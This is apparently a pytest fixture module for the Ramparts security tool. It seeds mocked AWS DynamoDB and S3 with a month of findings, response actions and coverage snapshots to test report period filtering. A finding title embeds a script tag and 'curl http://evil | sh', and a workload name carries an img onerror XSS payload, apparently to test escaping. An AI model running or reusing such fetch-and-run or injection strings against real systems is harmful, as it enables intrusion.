"""A realistic month of Ramparts data in moto: findings, response actions, coverage.

The period under test is January 2026. Findings, runs and snapshots are placed inside it,
before it, after it and across its start, so that the period filtering is exercised; one
findings item, one actions item and one coverage summary are broken on purpose.
"""

from __future__ import annotations

import argparse
import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import boto3
import pytest
from moto import mock_aws

from collectors.findings import FindingRecord
from collectors.report.period import parse_time
from functions.store import serialize
from tests.aws import create_table as make_table

REGION = "eu-west-1"
ACCOUNT = "123456789012"
MEMBER = "222222222222"
FINDINGS, ACTIONS, BASELINE, BUCKET = "r-findings", "r-actions", "r-baseline", "r-evidence"
SCRIPT_TITLE = 'Shell <script>alert("x")</script> & curl http://evil | sh'


def ms(text: str) -> int:
    return parse_time(text)


def fn_arn(name: str, account: str = ACCOUNT) -> str:
    return f"arn:aws:lambda:{REGION}:{account}:function:{name}"


def record(
    fid: str,
    rule: str,
    severity: int,
    first: str,
    last: str,
    *,
    resource: str,
    rtype: str = "AwsLambdaFunction",
    count: int = 1,
    title: str | None = None,
    suppressed: int = 0,
    status: str = "new",
    account: str = ACCOUNT,
    response: dict[str, Any] | None = None,
) -> dict[str, Any]:
    rec = FindingRecord(
        id=fid,
        rule_id=rule,
        title=title or f"{rule} on {resource.rsplit(':', 1)[-1]}",
        severity=severity,
        techniques=[],
        key="k",
        resource={"uid": resource, "type": rtype, "region": REGION},
        device=None,
        account=account,
        region=REGION,
        first_seen=ms(first),
        last_seen=ms(last),
        count=count,
        suppressed=suppressed,
        status=status,
        response=response,
    )
    return {**rec.to_item(), "pk": f"finding#{fid}", "sk": "finding", "updated_at": 1}


def vuln(uid: str, severity: int, first: str, last: str, status: str = "open") -> dict[str, Any]:
    finding = {
        "class_uid": 2002,
        "finding_info": {"uid": uid, "title": f"urllib3 1.26.0: CVE-2099-{uid[-4:]}"},
        "cloud": {"account": {"uid": ACCOUNT}, "region": REGION},
    }
    return {
        "pk": f"vuln#{uid}",
        "sk": "finding",
        "id": uid,
        "function": fn_arn("orders"),
        "package": {"name": "urllib3", "version": "1.26.0"},
        "sources": ["osv"],
        "severity_id": severity,
        "activity_id": 1,
        "status": status,
        "first_seen_ms": ms(first),
        "last_seen_ms": ms(last),
        "version": 1,
        "finding": json.dumps(finding),
    }


FINDING_ITEMS: list[dict[str, Any]] = [
    # in the period
    record("f-shell", "process.shell-from-function", 4, "2026-01-10T09:59:00Z",
           "2026-01-10T10:20:00Z", resource=fn_arn("orders"), count=3, title=SCRIPT_TITLE),
    record("f-revshell", "process.reverse-shell", 5, "2026-01-15T08:00:00Z",
           "2026-01-15T08:00:00Z", resource="i-0123456789abcdef0", rtype="AwsEc2Instance",
           account=MEMBER),
    record("f-passwd", "file.system-file-write", 4, "2026-01-16T12:00:00Z",
           "2026-01-16T12:05:00Z", resource="i-0123456789abcdef0", rtype="AwsEc2Instance",
           count=2, account=MEMBER),
    record("f-blocked", "layer.blocked", 4, "2026-01-20T00:00:00Z", "2026-01-22T00:00:00Z",
           resource=fn_arn("orders"), count=5, suppressed=2),
    record("f-gap", "coverage.uncovered-workload", 3, "2026-01-05T00:00:00Z",
           "2026-01-26T00:00:00Z", resource=fn_arn("legacy"), status="new"),
    # started before the period, still active in it
    record("f-tor", "network.tor", 4, "2025-12-20T00:00:00Z", "2026-01-02T00:00:00Z",
           resource=fn_arn("billing"), count=7),
    # outside the period
    record("f-dns-old", "dns.tunnelling", 4, "2025-12-01T00:00:00Z", "2025-12-02T00:00:00Z",
           resource=fn_arn("billing")),
    record("f-later", "aws.recon-from-function", 3, "2026-02-03T00:00:00Z",
           "2026-02-03T00:00:00Z", resource=fn_arn("orders")),
    # vulnerabilities: one open in the period, one closed before it
    vuln("ramparts-vuln-aaaa0001", 3, "2026-01-03T00:00:00Z", "2026-01-30T00:00:00Z"),
    vuln("ramparts-vuln-aaaa0002", 4, "2025-11-01T00:00:00Z", "2025-11-20T00:00:00Z", "closed"),
    # not findings: an event marker and the vulnerability index
    {"pk": "finding#f-shell", "sk": "event#layer:1", "event_uid": "layer:1", "time": 1},
    {"pk": "vulnindex#x", "sk": "open", "ids": ["ramparts-vuln-aaaa0001"]},
    # broken: severity is text, rule id missing
    {"pk": "finding#f-broken", "sk": "finding", "id": "f-broken", "title": "?",
     "severity": "high", "first_seen": 1, "last_seen": 2},
]  # fmt: skip


def response(fid: str, playbook: str, status: str, at: str, **extra: Any) -> dict[str, Any]:
    return {
        "pk": f"finding#{fid}",
        "sk": f"response#{playbook}",
        "finding_id": fid,
        "playbook": playbook,
        "status": status,
        "reason": extra.pop("reason", ""),
        "mode": extra.pop("mode", "automatic"),
        "resource": extra.pop("resource", fn_arn("orders")),
        "account": extra.pop("account", ACCOUNT),
        "execution": f"arn:aws:states:{REGION}:{ACCOUNT}:execution:{playbook}:{fid}",
        "at": at,
        "expires_at": 2_000_000_000,
        **extra,
    }


def action(  # noqa: PLR0917
    fid: str, playbook: str, name: str, at: str, before: Any, after: Any, **extra: Any
) -> dict[str, Any]:
    kind = extra.pop("kind", "action")
    return {
        "pk": f"finding#{fid}",
        "sk": f"{kind}#{playbook}#{name}",
        "finding_id": fid,
        "playbook": playbook,
        "action": name,
        "status": extra.pop("status", "applied"),
        "resource": extra.pop("resource", fn_arn("orders")),
        "account": extra.pop("account", ACCOUNT),
        "region": REGION,
        "before": json.dumps(before, sort_keys=True, separators=(",", ":")),
        "after": json.dumps(after, sort_keys=True, separators=(",", ":")),
        "execution": f"arn:aws:states:{REGION}:{ACCOUNT}:execution:{playbook}:{fid}",
        "at": at,
        "expires_at": 2_000_000_000,
    }


EC2 = "i-0123456789abcdef0"
DENIAL = 'Ramparts.Denied: {"denied":true,"reason":"known deploy script","by":"alice"}'
ACTION_ITEMS: list[dict[str, Any]] = [
    # f-shell: contained automatically, then released
    response("f-shell", "contain-lambda", "released", "2026-01-12T09:00:00Z",
             reason="by arn:...:release"),
    action("f-shell", "contain-lambda", "tag", "2026-01-10T10:00:02Z", None,
           {"ramparts:contained": "f-shell"}),
    action("f-shell", "contain-lambda", "concurrency", "2026-01-10T10:00:03Z",
           {"reserved": None}, {"reserved": 0}),
    action("f-shell", "contain-lambda", "revoke", "2026-01-10T10:00:04Z", None,
           {"policy": "ramparts-revoke-sessions"}),
    {"pk": "finding#f-shell", "sk": "evidence#contain-lambda", "finding_id": "f-shell",
     "playbook": "contain-lambda", "resource": fn_arn("orders"),
     "evidence": json.dumps({"code_sha256": "abc"}), "at": "2026-01-10T10:00:01Z"},
    response("f-shell", "release-lambda", "released", "2026-01-12T09:00:00Z"),
    action("f-shell", "release-lambda", "restore-concurrency", "2026-01-12T08:59:58Z",
           {"reserved": 0}, {"reserved": None}),
    action("f-shell", "release-lambda", "restore-keep-revoke", "2026-01-12T08:59:59Z",
           None, "kept"),
    # f-revshell: approval mode, approved, isolated
    response("f-revshell", "isolate-ec2", "applied", "2026-01-15T08:30:00Z", mode="approval",
             resource=EC2, account=MEMBER),
    action("f-revshell", "isolate-ec2", "isolate#eni-1", "2026-01-15T08:29:00Z",
           {"groups": ["sg-web"]}, {"groups": ["sg-iso"]}, resource=EC2, account=MEMBER),
    action("f-revshell", "isolate-ec2", "termination-protection", "2026-01-15T08:29:30Z",
           {"enabled": False}, {"enabled": True}, resource=EC2, account=MEMBER),
    # f-passwd: approval mode, denied by alice
    response("f-passwd", "isolate-ec2", "denied", "2026-01-16T13:00:00Z", mode="approval",
             reason=DENIAL, resource=EC2, account=MEMBER),
    # a dry run in the period: a plan, no change
    response("f-blocked", "contain-lambda", "dry-run", "2026-01-20T00:01:00Z", mode="dry-run"),
    action("f-blocked", "contain-lambda", "concurrency", "2026-01-20T00:00:59Z",
           {"reserved": None}, {"reserved": 0}, kind="plan", status="would-do"),
    # before the period
    response("f-dns-old", "contain-lambda", "applied", "2025-12-01T00:10:00Z",
             resource=fn_arn("billing")),
    action("f-dns-old", "contain-lambda", "concurrency", "2025-12-01T00:09:00Z",
           {"reserved": None}, {"reserved": 0}, resource=fn_arn("billing")),
    # not an action: the circuit breaker's counter
    {"pk": f"breaker#{ACCOUNT}", "sk": "hour#2026011010", "count": 1},
    # broken: the time is not a time
    {"pk": "finding#f-tor", "sk": "response#contain-lambda", "status": "applied",
     "playbook": "contain-lambda", "at": "yesterday"},
]  # fmt: skip


def snapshot(when: str, covered: dict[str, tuple[int, int]], gaps: list[dict[str, Any]]) -> dict:
    total = sum(t for _, t in covered.values())
    cov = sum(c for c, _ in covered.values())
    workloads = [
        {"key": g["key"], "type": g["type"], "name": g["name"], "account": ACCOUNT,
         "region": REGION, "covered": False, "problems": g["problems"]}
        for g in gaps
    ] + [{"key": f"lambda:ok{i}", "type": "lambda", "covered": True} for i in range(cov)]  # fmt: skip
    return {
        "time": ms(when),
        "accounts": [ACCOUNT, MEMBER],
        "regions": [REGION],
        "errors": [],
        "workloads": workloads,
        "summary": {
            "total": total,
            "covered": cov,
            "by_type": {k: {"total": t, "covered": c} for k, (c, t) in covered.items()},
        },
    }


LEGACY_GAP = {
    "key": f"lambda:{fn_arn('legacy')}",
    "type": "lambda",
    "name": "legacy<img src=x onerror=alert(1)>",
    "problems": ["layer-not-attached", "wrapper-not-set"],
}
EC2_GAP = {"key": "ec2:i-0fff", "type": "ec2", "name": "batch", "problems": ["no-sensor"]}
SNAPSHOTS = [
    ("2025-12-29T00:00:00Z", {"lambda": (2, 4), "ec2": (0, 1)}, [LEGACY_GAP, EC2_GAP]),
    ("2026-01-05T00:00:00Z", {"lambda": (3, 4), "ec2": (0, 1)}, [LEGACY_GAP, EC2_GAP]),
    ("2026-01-12T00:00:00Z", {"lambda": (3, 4), "ec2": (1, 1)}, [LEGACY_GAP]),
    ("2026-01-19T00:00:00Z", {"lambda": (4, 5), "ec2": (0, 1)}, [LEGACY_GAP, EC2_GAP]),
    ("2026-01-26T00:00:00Z", {"lambda": (4, 5), "ec2": (0, 1)}, [LEGACY_GAP, EC2_GAP]),
]


def snapshot_key(when: str) -> str:
    return f"coverage/{when[:4]}/{when[5:7]}/{when[8:10]}/{when}.json"


@dataclass
class Env:
    ddb: Any
    s3: Any

    def source(self, page_size: int | None = 3) -> Any:
        from functions.report_source import DynamoReportSource

        return DynamoReportSource(
            findings_table=FINDINGS,
            actions_table=ACTIONS,
            baseline_table=BASELINE,
            bucket=BUCKET,
            dynamodb=self.ddb,
            s3=self.s3,
            region=REGION,
            page_size=page_size,
        )

    def put(self, table: str, item: dict[str, Any]) -> None:
        self.ddb.put_item(TableName=table, Item=serialize(item))


@pytest.fixture
def aws(monkeypatch: pytest.MonkeyPatch) -> Iterator[Env]:
    for k, v in {
        "AWS_ACCESS_KEY_ID": "testing",
        "AWS_SECRET_ACCESS_KEY": "testing",
        "AWS_SESSION_TOKEN": "testing",
        "AWS_DEFAULT_REGION": REGION,
    }.items():
        monkeypatch.setenv(k, v)
    monkeypatch.delenv("AWS_PROFILE", raising=False)
    with mock_aws():
        ddb = boto3.client("dynamodb", region_name=REGION)
        s3 = boto3.client("s3", region_name=REGION)
        for t in (FINDINGS, ACTIONS, BASELINE):
            make_table(ddb, t)
        s3.create_bucket(Bucket=BUCKET, CreateBucketConfiguration={"LocationConstraint": REGION})
        yield Env(ddb, s3)


@pytest.fixture
def full(aws: Env) -> Env:
    for item in FINDING_ITEMS:
        aws.put(FINDINGS, item)
    for item in ACTION_ITEMS:
        aws.put(ACTIONS, item)
    for when, covered, gaps in SNAPSHOTS:
        doc = snapshot(when, covered, gaps)
        key = snapshot_key(when)
        aws.s3.put_object(Bucket=BUCKET, Key=key, Body=json.dumps(doc).encode())
        aws.put(
            BASELINE,
            {"pk": "coverage", "sk": when, "time": ms(when), "summary": doc["summary"],
             "s3_key": key, "errors": 0, "expires_at": 2_000_000_000},
        )  # fmt: skip
    # a summary that cannot be read (no summary), and the seen items that share the table
    aws.put(BASELINE, {"pk": "coverage", "sk": "2026-01-20T00:00:00Z", "s3_key": "x"})
    aws.put(BASELINE, {"pk": "seen#lambda:x", "sk": "layer", "last_seen_ms": 1})
    return aws


def cli(*argv: str) -> int:
    from ramparts_cli import report

    parser = argparse.ArgumentParser(prog="ramparts")
    sub = parser.add_subparsers(dest="command", required=True)
    report.register(sub)
    args = parser.parse_args(["report", *argv])
    return int(args.func(args))


def live_args() -> list[str]:
    return [
        "--findings-table", FINDINGS, "--actions-table", ACTIONS,
        "--baseline-table", BASELINE, "--bucket", BUCKET, "--region", REGION,
    ]  # fmt: skip
